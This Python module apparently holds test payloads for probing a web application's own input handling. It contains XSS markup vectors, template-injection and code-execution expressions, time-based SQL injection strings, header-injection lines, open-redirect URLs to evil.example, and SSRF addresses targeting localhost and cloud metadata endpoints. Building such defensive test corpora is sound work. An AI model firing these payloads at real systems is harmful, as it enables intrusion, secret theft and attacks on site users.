"""What an attacker writes into a field, from parts: markup, expressions, SQL, addresses, lines."""

from __future__ import annotations

from itertools import product

CANARY = 7331
EVALUATED = str(CANARY * CANARY)
"""What stands on a page that computed `7331*7331`; nothing else on our pages holds these digits."""
EVIL = "evil.example"

_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--!>",
    "</option></select>",
    "]]>",
    "`>",
)
_VECTORS = (
    f"<img src=x onerror=alert({CANARY})>",
    f"<svg onload=alert({CANARY})>",
    f"<script>alert({CANARY})</script>",
    f"<details open ontoggle=alert({CANARY})>",
    f"<a href=javascript:alert({CANARY})>a</a>",
    f"<input autofocus onfocus=alert({CANARY})>",
    f"<iframe src=javascript:alert({CANARY})>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content=0;url=//{EVIL}>",
    f"<form action=//{EVIL}><button>a</form>",
    f"<i hx-trigger=load hx-get=//{EVIL}>",
    f"<b hx-on:load=alert({CANARY})>",
)
MARKUP = tuple(out + vector for vector, out in product(_VECTORS, _WAYS_OUT))
"""120 pieces of markup that would act if a page let them through."""
SHORT = '"><i onx=7>'
"""For fields that take no more than a few letters."""

EXPRESSIONS = (
    "{{7331*7331}}", "${7331*7331}", "#{7331*7331}", "<#assign x=7331*7331>${x}", "<%= 7331*7331 %>",
    "{% debug %}", "{% load log %}", "{{settings.SECRET_KEY}}", "%(secret)s", "{0.__class__}",
    "{诉求人.__class__}", "T(java.lang.Runtime).getRuntime()", "@{bean.run()}", "#(7331*7331)",
    '#read("/etc/hostname")', "$ 7331 * 7331 $", "__import__('os').system('id')", "=7331*7331",
)  # fmt: skip
"""Expressions of template languages, of beans, of typst, of spreadsheets."""

HOSTILE = f"=\"'><img src=x onerror=alert({CANARY})>{{{{7331*7331}}}}${{7331*7331}}#(7331*7331)"
"""All of it at once: for whatever stands in a text column."""

_SLEEPS = (
    "pg_sleep(1)", "(SELECT 1 FROM pg_sleep(1))", "(SELECT pg_sleep(1))", "1=(SELECT 1 FROM pg_sleep(1))",
    "CASE WHEN 1=1 THEN pg_sleep(1) END",
)  # fmt: skip
_OPENINGS = (
    "", "'", "''", '"', "')", "'))", '")', "1", "1'", "1)", "-1", "name", "name,", "id DESC,", "a' OR ",
    "a' AND ", "a%' AND ", "'||", "';SELECT ", "');SELECT ",
)  # fmt: skip
_ENDINGS = ("", "--", "/*", "#", "--%0a")
SQL = tuple(f"{a} {b}{c}" for a, b, c in product(_OPENINGS, _SLEEPS, _ENDINGS))
"""500 tries to make a filter, a search or an order sleep for a second."""

LINES = (
    "a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\rX-Evil: 1", "a\r\n\r\n<h1>X-Evil</h1>", "a\u2028X-Evil: 1",
    "a\u0085X-Evil: 1", "a%0d%0aX-Evil: 1", "a\x0bX-Evil: 1", "嘊X-Evil: 1", "a\r\n.\r\nRCPT TO:<x@y>",
)  # fmt: skip
"""Line ends that try to begin a header, a log line, a message of their own."""

ONWARD = (
    f"//{EVIL}", f"///{EVIL}", f"https://{EVIL}", f"http:{EVIL}", f"https:/{EVIL}", f"\\\\{EVIL}",
    f"/\\{EVIL}",
    f"/\t/{EVIL}", f"\t//{EVIL}", f" //{EVIL}", f"https://testserver@{EVIL}", f"https://{EVIL}\\@testserver",
    f"https://testserver.{EVIL}", f"javascript:alert({CANARY})", f"JaVaScRiPt:alert({CANARY})",
    f"data:text/html,<script>alert({CANARY})</script>", f"//{EVIL}%2f..", f"/%09/{EVIL}", f"https:///{EVIL}",
    f"/.//{EVIL}", f"//{EVIL}/%0d%0aX-Evil:1", f"\x00//{EVIL}", f"ftp://{EVIL}", f"////{EVIL}", f"/\n/{EVIL}",
)  # fmt: skip
"""Where `next` shall lead away to."""

_HOSTS = (
    "127.0.0.1", "localhost", "0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001",
    "017700000001", "127.1", "127.0.0.1.nip.example", "169.254.169.254", "[fd00:ec2::254]", "100.100.100.200",
    "10.0.0.1",
    "192.168.0.1", "metadata.internal", "user@127.0.0.1", "127.0.0.1#@evil.example",
    "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "①②⑦.⓪.⓪.①",
)  # fmt: skip
_SCHEMES = (
    "http://{}:{}/hy",
    "https://{}:{}/hy",
    "gopher://{}:{}/_GET%20/hy",
    "ftp://{}:{}/hy",
    "//{}:{}/hy",
)


def addresses(port: int) -> tuple[str, ...]:
    """100 addresses that lead to this very machine, or would if somebody asked for them."""
    return tuple(scheme.format(host, port) for scheme, host in product(_SCHEMES, _HOSTS))


ODD = (
    "", " ", "\u3000", "0", "-1", "9" * 30, "1e309", "NaN", "null", "true", "[]", "{}", "a\x00b", "\ufeff",
    "\u202e敌",
    "\u200b", "𠮷", "e\u0301" * 30, "\ud7ff", "\uffff", "\U0010ffff", "🧑‍👩‍👧‍👦", "\x1b[31m", "\x7f", "½",
    "٣", "²", "Ⅳ", "一",
    "2026-02-30", "2026-13-01", "0000-00-00", "9999-12-31", "10000-01-01", "2026-01-01T25:00", "-0001-01-01",
    "2026-W01-1", "99:99", "24:00", "../../etc/passwd", "%00", "%ff", "a" * 20_000, "长" * 9_000,
    "\n" * 5_000,
    "(" * 3_000, "<" * 3_000, "%s%s%n", "Infinity", "0x10", "1_000", "+86 139 0013 9000", "\r\n", "\t",
    "'", '"', "\\",
)  # fmt: skip
"""Values no person types and every field has to survive."""
